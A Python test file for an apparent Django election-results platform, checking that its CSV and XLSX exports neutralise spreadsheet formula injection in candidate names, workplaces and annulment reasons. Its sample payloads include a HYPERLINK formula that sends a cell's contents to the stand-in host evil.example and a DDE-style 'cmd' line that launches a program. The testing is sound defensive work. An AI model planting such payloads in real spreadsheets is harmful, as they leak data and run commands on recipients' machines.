"""Spreadsheet formula injection: every CSV and XLSX the platform writes neutralises text that a spreadsheet
program would run as a formula (names, workplaces, job titles, reasons typed by people)."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from atomgrad.core.spreadsheets import csv_cell, formula_like
from atomgrad.results.services.annulment import votes_annul
from tests.jobs.helpers import run_worker
from tests.results.helpers import city_vote, close_voting, organiser, sign_and_publish

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
]


@pytest.fixture
def published():  # type: ignore[no-untyped-def]
    cv = city_vote(names=[HOSTILE[0], HOSTILE[1], "Обычная Ольга", HOSTILE[3]])
    for person, (workplace, position) in zip(cv.candidates, [(HOSTILE[2], HOSTILE[3]), (HOSTILE[4], HOSTILE[5]),
                                                             (HOSTILE[6], "=1"), ("ООО «Ромашка»", "@A1")],
                                             strict=True):
        person.workplace, person.position = workplace, position
        person.save(update_fields=["workplace", "position"])
    cv.cast([7, 5, 3, 1])
    close_voting(cv.season)
    votes_annul(actor=cv.chair, season=cv.season, city=cv.city, vote_ids=[cv.votes[cv.candidates[0].pk][0].pk],
                reason_code="fraud_suspected", reason="=1+2 и ещё текст")
    votes_annul(actor=cv.chair, season=cv.season, city=cv.city, vote_ids=[cv.votes[cv.candidates[1].pk][0].pk],
                reason_code="fraud_suspected", reason="-1 голос: проверка")
    boss = organiser()
    sign_and_publish(cv, publisher=boss)
    return cv, boss


def _assert_csv_safe(text: str, *, expected: list[str]) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    dangerous = [cell for cell in cells if formula_like(cell)]
    assert not dangerous, dangerous
    for value in expected:  # the text is kept, behind the apostrophe
        assert "'" + value in cells, value


def _assert_xlsx_safe(data: bytes, *, expected: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"{name} holds a formula"
    workbook = load_workbook(io.BytesIO(data))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
                values.append(cell.value)
    for value in expected:  # the text is unchanged: stored as text, shown as typed
        assert value in values, value


def test_the_helper_prefixes_only_formula_like_text():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell(" @x") == "' @x"
    assert csv_cell("Иванова") == "Иванова"
    assert csv_cell(-5) == -5 and csv_cell(None) is None and csv_cell("") == ""


def test_results_csv(client, published):
    cv, _boss = published
    text = client.get(reverse("results:export_csv", args=[cv.season.year])).content.decode("utf-8-sig")
    _assert_csv_safe(text, expected=[HOSTILE[0], HOSTILE[1], HOSTILE[3]])


def test_results_xlsx(client, published):
    cv, _boss = published
    data = client.get(reverse("results:export_xlsx", args=[cv.season.year])).content
    _assert_xlsx_safe(data, expected=[HOSTILE[0], HOSTILE[1], HOSTILE[3]])


@pytest.mark.django_db(transaction=True)  # the task queue's worker commits and closes connections
def test_laureates_xlsx_in_the_ceremony_documents(client, published):
    cv, boss = published
    client.force_login(boss)
    client.post(reverse("results:documents_make", args=[cv.season.year]))
    run_worker()  # the documents are a job of the task queue
    archive = client.get(reverse("results:documents_download", args=[cv.season.year]), follow=True)
    assert archive.status_code == 200
    with zipfile.ZipFile(io.BytesIO(b"".join(archive.streaming_content)
                                    if archive.streaming else archive.content)) as documents:
        [name] = [name for name in documents.namelist() if name.endswith(".xlsx")]
        data = documents.read(name)
    _assert_xlsx_safe(data, expected=[HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4], HOSTILE[5]])


def test_audit_csv(client, published):
    _cv, boss = published
    client.force_login(boss)
    response = client.get(reverse("results:audit_csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    _assert_csv_safe(text, expected=["=1+2 и ещё текст", "-1 голос: проверка"])
